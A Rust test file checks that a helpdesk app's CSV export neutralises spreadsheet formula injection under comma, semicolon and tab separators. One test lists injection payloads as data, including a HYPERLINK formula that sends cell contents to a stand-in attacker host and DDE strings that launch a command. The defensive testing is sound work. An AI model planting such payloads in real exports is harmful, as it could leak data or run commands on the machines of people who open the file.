//! The CSV export read back by a real CSV parser, as a spreadsheet reads it: with `,` (the
//! separator written) every cell comes back as exported, and with `;` (French-locale Excel) or a
//! tab no cell starts a formula, whatever the backend text (device names and groups are chosen by
//! end users).
#![cfg(not(target_arch = "wasm32"))]

use helpdesk::domain::table::to_csv;
use proptest::prelude::*;

/// What a spreadsheet passes over before it looks for a formula at the start of a cell.
fn skipped(c: char) -> bool {
    c.is_whitespace() || c == '\0' || c == '"'
}

/// The cell would be read as a formula: it starts with one of OWASP's characters once blanks,
/// control characters and quotes are passed over (a leading `'` makes it text).
fn starts_formula(cell: &str) -> bool {
    cell.trim_start_matches(skipped).starts_with(['=', '+', '-', '@', '\u{FF1D}', '\u{FF0B}', '\u{FF0D}', '\u{FF20}'])
}

fn read(csv: &str, separator: u8) -> Vec<Vec<String>> {
    csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .delimiter(separator)
        .from_reader(csv.as_bytes())
        .records()
        .map(|record| record.expect("a CSV reader accepts the export").iter().map(str::to_string).collect())
        .collect()
}

/// What the export writes for a cell: the text, with a `'` before each formula start.
fn without_added_quotes(cell: &str, original: &str) -> bool {
    let mut added = cell.len() - original.len();
    let mut rest = cell;
    let mut expected = original;
    while let Some(c) = rest.chars().next() {
        if expected.starts_with(c) {
            expected = &expected[c.len_utf8()..];
        } else if c == '\'' && added > 0 {
            added -= 1;
        } else {
            return false;
        }
        rest = &rest[c.len_utf8()..];
    }
    expected.is_empty() && added == 0
}

fn check(headers: &[&str], rows: &[Vec<String>]) {
    let csv = to_csv(headers, rows.iter().map(Vec::as_slice));
    let read_back = read(&csv, b',');
    assert_eq!(read_back.len(), rows.len() + 1, "one record a row and the headers: {csv:?}");
    let originals =
        std::iter::once(headers.iter().map(|h| h.to_string()).collect::<Vec<_>>()).chain(rows.iter().cloned());
    for (cells, original) in read_back.iter().zip(originals) {
        assert_eq!(cells.len(), original.len(), "{csv:?}");
        for (cell, original) in cells.iter().zip(&original) {
            assert!(!starts_formula(cell), "cell {cell:?} starts a formula in {csv:?}");
            assert!(without_added_quotes(cell, original), "cell {cell:?} is not {original:?} with quotes added");
            if !original.contains(|c: char| "=+-@\t\r\n\0\u{FF1D}\u{FF0B}\u{FF0D}\u{FF20}".contains(c)) {
                assert_eq!(cell, original, "an ordinary cell comes back as it was");
            }
        }
    }
    for separator in *b";\t" {
        for cell in read(&csv, separator).iter().flatten() {
            assert!(
                !starts_formula(cell),
                "with {:?} as the separator, {cell:?} starts a formula in {csv:?}",
                separator as char
            );
        }
    }
}

#[test]
fn known_attacks_are_text_with_either_separator() {
    let attacks = [
        "=HYPERLINK(\"https://evil.example/?\"&A1,\"Open\")",
        "=cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "+1+1",
        "-2+3",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "\0=1+1",
        "PC;=1+1;",
        "PC; =HYPERLINK(\"x\")",
        "PC;\"=1+1",
        "PC;\"\"=1+1",
        "Laptop\t@A1",
        "line\r\n-1",
        "\u{FF1D}1+1",
        "a,b;c\"d",
    ];
    let rows: Vec<Vec<String>> =
        attacks.iter().map(|a| vec!["DESKTOP-01".to_string(), a.to_string(), "x".to_string()]).collect();
    check(&["Name", "Note; détail", "=Header"], &rows);
}

#[test]
fn ordinary_names_come_back_unchanged() {
    let rows = vec![vec![
        "DESKTOP-ADELE01".to_string(),
        "Adele Vance".to_string(),
        "Sales, Marketing; EMEA".to_string(),
        "O'Neil \"Dana\"".to_string(),
        "Windows 11 (22H2)".to_string(),
    ]];
    check(&["Device", "User", "Groups", "Name", "OS"], &rows);
}

fn cell() -> impl Strategy<Value = String> {
    prop_oneof![
        ".{0,20}",
        // Mostly the characters that matter, so the cases hit the rules.
        "[=+@\\-;,\"'\t\r\n\0 a\u{FF1D}]{0,12}",
    ]
}

proptest! {
    #[test]
    fn any_text_reads_back_as_exported_and_never_as_a_formula(
        rows in prop::collection::vec(prop::collection::vec(cell(), 3), 0..6)
    ) {
        check(&["Name", "Note", "Other"], &rows);
    }
}
